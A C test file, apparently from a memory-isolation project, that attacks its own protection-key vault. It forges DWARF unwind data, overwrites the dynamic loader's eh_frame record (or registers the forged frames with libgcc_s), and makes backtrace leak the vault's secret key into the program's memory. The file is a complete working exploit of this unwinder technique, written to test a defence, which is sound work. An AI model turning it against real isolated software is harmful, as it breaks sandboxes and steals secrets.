/* attacks-rev22-unwind.test: a hardened program dlopens the vault object
 * (argv[1]) and asks where it is (vault_where). Then, as default-domain
 * code, it forges an .eh_frame in its own memory and stores its address
 * over the eh_frame pointer of ld.so's _dl_find_object record of the
 * vault object (map_start, map_end, link map, eh_frame: glibc 2.36), a
 * word of key-0 memory (found by reading /proc/self/smaps for key-0
 * writable mappings, then key-0 loads). The forged CFI (one CIE, two
 * FDEs) describes the vault's real frame as having its CFA at the key
 * and its return address base + 1 + the key's first byte, and every
 * frame at base + 1 .. base + 256 as having its CFA one byte further and
 * its return address base + 1 + the byte there. libgcc_s's unwinder, run
 * by backtrace with the vault's rights, evaluates it and the vault writes
 * its key, one byte per "return address", into the program's array.
 * With "register" (attacks-rev22-unwind-registered.test) the forged
 * .eh_frame goes instead to libgcc_s's list of registered frames
 * (__register_frame_info, called by the default domain: the list is
 * statics in libgcc_s's .bss, key-0 memory a data-only attacker could
 * write the same way), which libgcc_s searches before ld.so's records.
 * With "control" nothing is forged; with "nobody" it runs as nobody.
 * Exits 0 only if the key reached the program's memory. */
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dlfcn.h>
#include <execinfo.h>
#include <grp.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "attack-args.h"

BULKHEAD_DATA(local) static int local_value = 7;
BULKHEAD_ENTRY(local) int local_get(void) { return local_value; }

static uintptr_t base, eh_frame_hdr, key;

static int find_vault(struct dl_phdr_info *info, size_t size, void *arg) {
  (void)size, (void)arg;
  if (!strstr(info->dlpi_name, "librev22-unwind-vault.so"))
    return 0;
  base = info->dlpi_addr;
  for (int i = 0; i < info->dlpi_phnum; i++)
    if (info->dlpi_phdr[i].p_type == PT_GNU_EH_FRAME)
      eh_frame_hdr = base + info->dlpi_phdr[i].p_vaddr;
  return 1;
}

/* The forged .eh_frame_hdr (version 1, an absolute .eh_frame pointer, no
 * search table) and .eh_frame. */
static unsigned char hdr[16] __attribute__((aligned(8)));
static unsigned char frame[256] __attribute__((aligned(8)));
static size_t at;

static void put(const void *p, size_t n) {
  memcpy(frame + at, p, n);
  at += n;
}
static void u8(unsigned v) {
  unsigned char c = (unsigned char)v;
  put(&c, 1);
}
static void u32(uint32_t v) { put(&v, 4); }
static void u64(uint64_t v) { put(&v, 8); }
/* Pads the entry that began at START with DW_CFA_nop and sets its length. */
static void end(size_t start) {
  while ((at - start) % 8)
    u8(0);
  uint32_t len = (uint32_t)(at - start - 4);
  memcpy(frame + start, &len, 4);
}

static void forge(void) {
  size_t cie = at;
  /* CIE: id 0, version 1, no augmentation, code align 1, data align -8,
   * return address column 16 (rip). */
  u32(0), u32(0), u8(1), u8(0), u8(1), u8(0x78), u8(16);
  end(cie);
  /* FDE for base .. base + 0x100, the forged return addresses:
   * CFA = rsp + 1; ra = base + 1 + *(uint8_t *)(rsp + 1). */
  size_t a = at;
  u32(0), u32((uint32_t)(at - cie)), u64(base), u64(0x100);
  u8(0x0c), u8(7), u8(1);          /* DW_CFA_def_cfa rsp, 1 */
  u8(0x16), u8(16), u8(14);        /* DW_CFA_val_expression rip: */
  u8(0x77), u8(1), u8(0x94), u8(1);    /* breg7 1, deref_size 1 */
  u8(0x03), u64(base + 1), u8(0x22);   /* addr base + 1, plus */
  end(a);
  /* FDE for the vault's code: CFA = key; ra = base + 1 + key[0]. */
  size_t b = at;
  u32(0), u32((uint32_t)(at - cie)), u64(base + 0x1000), u64(0x100000);
  u8(0x0f), u8(9), u8(0x03), u64(key); /* DW_CFA_def_cfa_expression */
  u8(0x16), u8(16), u8(21);
  u8(0x03), u64(key), u8(0x94), u8(1), u8(0x03), u64(base + 1), u8(0x22);
  end(b);
  u32(0);
  hdr[0] = 1, hdr[1] = 0x00 /* absptr */, hdr[2] = hdr[3] = 0xff /* omit */;
  uint64_t p = (uint64_t)(uintptr_t)frame;
  memcpy(hdr + 4, &p, 8);
}

/* Points every key-0 record (map_start, map_end, HANDLE, eh_frame_hdr)
 * at the forged header; how many there were. */
static int redirect(uintptr_t handle) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[512];
  uintptr_t lo = 0, hi = 0;
  int rw = 0, n = 0;
  while (f && fgets(line, sizeof line, f)) {
    uintptr_t l, h;
    char perms[8];
    int k;
    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
      continue;
    }
    if (sscanf(line, "ProtectionKey: %d", &k) != 1 || !rw || k != 0)
      continue;
    for (uintptr_t *w = (uintptr_t *)lo; w + 4 <= (uintptr_t *)hi; w++)
      if (w[2] == handle && w[3] == eh_frame_hdr && w[0] <= base + 0x1000) {
        w[3] = (uintptr_t)hdr;
        n++;
      }
  }
  if (f)
    fclose(f);
  return n;
}

/* Hands the forged .eh_frame to libgcc_s's list of registered frames. */
static int register_forged(void) {
  static uintptr_t object[16]; /* libgcc's struct object: 6 words */
  void (*reg)(const void *, void *) =
      (void (*)(const void *, void *))dlsym(RTLD_DEFAULT,
                                            "__register_frame_info");
  if (!reg)
    return 0;
  reg(frame, object);
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  become_nobody_if_asked(argc, argv);
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("local: %d\n", local_get());
  void *first[4];
  backtrace(first, 4); /* libc finds libgcc_s's unwinder now, not in the vault */
  void *h = dlopen(argv[1], RTLD_NOW);
  int (*where)(void **, int) =
      h ? (int (*)(void **, int))dlsym(h, "vault_where") : NULL;
  int (*length)(void) = h ? (int (*)(void))dlsym(h, "vault_key_length") : NULL;
  if (!where || !length) {
    printf("dlopen refused: %s\n", dlerror());
    return 2;
  }
  dl_iterate_phdr(find_vault, NULL);
  key = (uintptr_t)dlsym(h, "vault_key");
  int n = length();
  void *out[64] = {0};
  printf("registered; frames: %s\n", where(out, 4) > 1 ? "some" : "none");
  if (has_arg(argc, argv, "register")) {
    forge();
    printf("forged frames registered with libgcc_s: %s\n",
           register_forged() ? "yes" : "no");
  } else if (!has_arg(argc, argv, "control")) {
    forge();
    printf("ld.so's records of the vault's eh_frame redirected: %s\n",
           redirect((uintptr_t)h) ? "yes" : "none found");
  }
  int got = where(out, n + 1);
  char stolen[64] = {0};
  for (int i = 1; i < got && i <= n; i++)
    stolen[i - 1] = (char)((uintptr_t)out[i] - base - 1);
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 1;
}
